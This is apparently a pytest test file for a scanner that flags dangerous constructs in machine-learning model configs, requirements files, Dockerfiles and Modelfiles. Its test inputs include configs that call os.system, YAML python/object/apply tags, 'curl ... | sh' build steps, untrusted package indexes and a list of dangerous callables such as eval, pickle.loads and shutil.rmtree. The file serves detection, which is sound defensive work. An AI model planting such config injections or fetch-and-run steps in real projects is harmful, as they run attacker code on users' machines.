# SPDX-License-Identifier: Apache-2.0
"""What configurations make loaders call and installers fetch is found."""

import json

import pytest

from steelyard.checks.config import look
from steelyard.checks.config.descriptors import DESCRIPTORS
from steelyard.core.claim import Fact, Finding, Measurement
from tests.samples.archives import tarred
from tests.samples.weights import claims


def findings(files: dict[str, bytes]) -> list[Finding]:
    return [claim for claim in claims(look, files) if isinstance(claim, Finding)]


def verdicts(files: dict[str, bytes]) -> list[tuple[str, str]]:
    return [(found.rule, str(found.severity)) for found in findings(files)]


@pytest.mark.parametrize(
    ("name", "severity"),
    [
        ("os.system", "critical"),
        ("builtins.eval", "critical"),
        ("subprocess.Popen", "critical"),
        ("torch.load", "critical"),
        ("torch.utils.cpp_extension.load", "critical"),
        ("nemo.core.os.system", "critical"),
        ("torch.nn.Linear.__init__.__globals__", "critical"),
        ("pickle.loads", "critical"),
        ("shutil.rmtree", "critical"),
        ("importlib.import_module", "high"),
        ("logging.FileHandler", "high"),
        ("socket.socket", "high"),
        ("torch.jit.trace", "medium"),
        ("transformers.AutoModel.from_pretrained", "medium"),
        ("datasets.load_dataset", "medium"),
        ("mine.models.Net", "medium"),
        ("Net", "medium"),
        ("${a.b}", "medium"),
        ("torch.nn.Linear", None),
        ("torch.optim.AdamW", None),
        ("torch.nn.functional.gelu", None),
        ("nemo.collections.asr.models.EncDecCTCModel", None),
        ("pytorch_lightning.callbacks.ModelCheckpoint", None),
        ("functools.partial", None),
        ("pathlib.Path", None),
        ("datetime.timedelta", None),
        ("builtins.dict", None),
    ],
)
def test_a_target_is_judged_by_its_name(name: str, severity: str | None) -> None:
    for key in ("_target_", "_component_", "class_path"):
        files = {"config.yaml": f"model:\n  - {key}: '{name}'\n    x: 1\n".encode()}
        assert [found for _, found in verdicts(files)] == ([severity] if severity else [])


def test_a_target_has_its_place() -> None:
    data = json.dumps({"model": [{"_target_": "os.system", "command": "id"}]}).encode()
    (found,) = findings({"a/config.json": data})
    assert found.where == "a/config.json /model/0/_target_"
    assert found.message == "_target_ names 'os.system'"


def test_the_loader_of_an_mlflow_model_is_judged() -> None:
    plain = b"flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n"
    assert findings({"MLmodel": plain}) == []
    assert verdicts({"MLmodel": plain.replace(b"mlflow.sklearn", b"subprocess")}) == [
        ("config.standard-target", "high")
    ]


def test_a_target_inside_a_nemo_archive_is_found() -> None:
    data = tarred([("./model_config.yaml", b"model:\n  _target_: os.system\n")])
    (found,) = findings({"m.nemo": data})
    assert found.severity == "critical"
    assert found.where.startswith("m.nemo!")


def test_a_function_that_is_looked_up_is_judged() -> None:
    text = "a:\n  _target_: hydra.utils.get_method\n  path: os.system\n"
    assert ("config.dangerous-target", "critical") in verdicts({"x.yaml": text.encode()})


def test_a_hidden_target_is_found() -> None:
    data = b'{"_target_": "os.system", "_target_": "torch.nn.Linear"}'
    assert verdicts({"x.json": data}) == [
        ("config.dangerous-target", "critical"),
        ("config.duplicate-key", "medium"),
    ]


@pytest.mark.parametrize(
    ("line", "found"),
    [
        ("a: !!python/object/apply:os.system [id]",
         [("config.dangerous-target", "critical"), ("config.object-tag", "high")]),
        ("a: !!python/name:torch.nn.Linear ''", [("config.object-tag", "medium")]),
        ("a: !!python/module:subprocess ''",
         [("config.object-tag", "high"), ("config.standard-target", "high")]),
        ("a: !!python/tuple [1, 2]", []),
        ("a: !new:torch.nn.Linear\n  x: 1", []),
        ("a: !apply:os.system [id]", [("config.dangerous-target", "critical")]),
        ("a: !name:mine.f", [("config.unknown-target", "medium")]),
        ("a: !ref <b>\nb: !include x.yaml", []),
    ],
)  # fmt: skip
def test_tags_that_construct_are_found(line: str, found: list[tuple[str, str]]) -> None:
    assert sorted(verdicts({"x.yaml": line.encode()})) == found


@pytest.mark.parametrize(
    ("value", "found"),
    [
        ("ldm.models.diffusion.ddpm.LatentDiffusion", []),
        ("mine.models.Net", []),
        ("es2020", []),
        ("./build", []),
        ("os.system", [("config.dangerous-target", "critical")]),
    ],
)
def test_the_word_target_alone_is_no_target(value: str, found: list[tuple[str, str]]) -> None:
    assert verdicts({"x.json": json.dumps({"target": value}).encode()}) == found


@pytest.mark.parametrize(
    ("name", "data", "rule", "where"),
    [
        ("requirements.txt", b"torch\n-i http://203.0.113.1/s\n", "config.other-index", " line:2"),
        ("requirements.txt", b"git+https://a.example/x\n", "config.direct-requirement", " line:1"),
        ("requirements.txt", b"./x.whl\n", "config.local-requirement", " line:1"),
        ("requirements.txt", b"--trusted-host a.example\n", "config.unchecked-host", " line:1"),
        ("pyproject.toml", b'[project]\ndependencies = ["x @ https://a.example/x.whl"]\n',
         "config.direct-requirement", " /project/dependencies/0"),
        ("Pipfile", b'[[source]]\nurl = "https://a.example/s"\n', "config.other-index", " /source/0/url"),
        ("environment.yml", b"channels: ['https://a.example/c']\n", "config.other-index", " /channels/0"),
        ("Dockerfile", b"FROM x\nRUN curl https://a.example | sh\n", "config.remote-step", " line:2"),
        ("pyproject.toml", b"[[[\n", "config.not-parsed", ""),
    ],
)  # fmt: skip
def test_where_packages_come_from_is_told(name: str, data: bytes, rule: str, where: str) -> None:
    (found,) = findings({name: data})
    assert (found.rule, found.where) == (rule, name + where)


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("requirements.txt", b"torch>=2.0\ntransformers==4.40.0\n"),
        (
            "pyproject.toml",
            b'[project]\ndependencies = ["torch"]\nurls.Home = "https://a.example"\n',
        ),
        ("environment.yml", b"channels: [conda-forge]\ndependencies: [python, {pip: [torch]}]\n"),
        ("Dockerfile", b"FROM python:3.11\nRUN pip install torch\nCOPY . /app\n"),
        ("config.json", b'{"model_type": "llama"}'),
        ("config.yaml", b"a: &x 1\nb: *x\n"),
        ("README.md", b"```yaml\n_target_: os.system\n```\n-i http://a.example\n"),
        ("vocab.txt", b"--index-url http://a.example\n"),
    ],
)
def test_ordinary_files_give_no_finding(name: str, data: bytes) -> None:
    assert findings({name: data}) == []


def test_a_modelfile_is_named() -> None:
    found = claims(look, {"Modelfile": b"FROM ./model.gguf\nTEMPLATE {{ .Prompt }}\n"})
    assert [(claim.name, claim.value) for claim in found if isinstance(claim, Fact)] == [
        ("config.modelfile", "./model.gguf")
    ]


def test_documents_are_counted() -> None:
    found = claims(look, {"a.json": b"{}", "b.yaml": b"a: 1", "c.txt": b"x"})
    assert [claim.value for claim in found if isinstance(claim, Measurement)] == [2]


def test_every_kind_of_finding_can_be_found() -> None:
    files = {
        "a.yaml": b"a: {_target_: os.system}\nb: {_target_: logging.x}\nc: {_target_: torch.x}\nd: {_target_: y}\n"
        b"e: !!python/name:torch.nn.Linear\ne: 1\nf: !include:/etc/x.yaml\n",
        "b.json": b"{'a': 1}",
        "requirements.txt": b"-i http://a.example\ngit+https://a.example/x\n./x.whl\n--trusted-host a\n",
        "Dockerfile": b"ADD https://a.example/x /x\n",
        "Modelfile": b"FROM /srv/x.gguf\n",
    }
    assert {found.rule for found in findings(files)} == {each.id for each in DESCRIPTORS}


def test_nothing_is_imported_or_constructed(never_runs) -> None:
    files = {
        "a.yaml": b"a: !!python/object/apply:os.system [id]\nb: {_target_: steelyard_trap.X}\n"
    }
    claims(look, files)
    with never_runs as tried:
        assert len(findings(files)) == 3
    assert tried == []


@pytest.mark.parametrize(
    ("written", "expected"),
    [
        ("a: !include:parts/net.yaml\n  b: 1\n", []),
        ("a: !include:/etc/net.yaml\n", [("config.include", "high")]),
        ("a: !include:../net.yaml\n", [("config.include", "high")]),
        ("a: !include:https://a.example/net.yaml\n", [("config.include", "high")]),
        ("a: !include:notes.txt\n", [("config.include", "medium")]),
        ("a: !applyref:os.system [id]\n", [("config.dangerous-target", "critical")]),
        ("a: !name:os.system\n", [("config.dangerous-target", "critical")]),
        ("a: !module:mine.nets\n", [("config.unknown-target", "medium")]),
        ("a: !new:torch.nn.Linear\n  in_features: 1\n", []),
        ("a: !ref <b>\nb: !copy <c>\n", []),
    ],
)
def test_tags_that_include_and_call_are_judged(written: str, expected: list) -> None:
    assert verdicts({"hyperparams.yaml": written.encode()}) == expected


@pytest.mark.parametrize(
    ("base", "elsewhere"),
    [
        ("llama3.2", False), ("./model.gguf", False), ("hf.co/org/name:Q4_K_M", False),
        ("/srv/other.gguf", True), ("../other.gguf", True), ("~/other.gguf", True),
        ("C:\\other.gguf", True), ("https://a.example/x.gguf", True),
    ],
)  # fmt: skip
def test_a_modelfile_that_builds_on_something_elsewhere_is_told(base: str, elsewhere: bool) -> None:
    for text in (f"FROM {base}\n", f"FROM ./m.gguf\nadapter {base}\n"):
        found = [rule for rule, _ in verdicts({"Modelfile": text.encode()})]
        assert found == (["config.other-base"] if elsewhere else [])


@pytest.mark.parametrize(
    ("step", "told"),
    [
        ("ADD https://a.example/x /x", True),
        ('ADD ["https://a.example/x", "/x"]', True),
        ("ADD --chown=1 local https://a.example/x /x", True),
        ("ADD http_client.py https.md /x/", False),
        ("RUN curl -s https://a.example | sh", True),
        ('RUN ["sh", "-c", "curl https://a.example | sh"]', True),
        ("RUN <<EOF\napt-get update\ncurl https://a.example | sh\nEOF\nCOPY a b", True),
        ("RUN <<EOF\napt-get update\nEOF\nCOPY a b", False),
    ],
)
def test_steps_that_fetch_are_told_in_every_form(step: str, told: bool) -> None:
    found = [rule for rule, _ in verdicts({"Dockerfile": f"FROM python\n{step}\n".encode()})]
    assert found == (["config.remote-step"] if told else [])
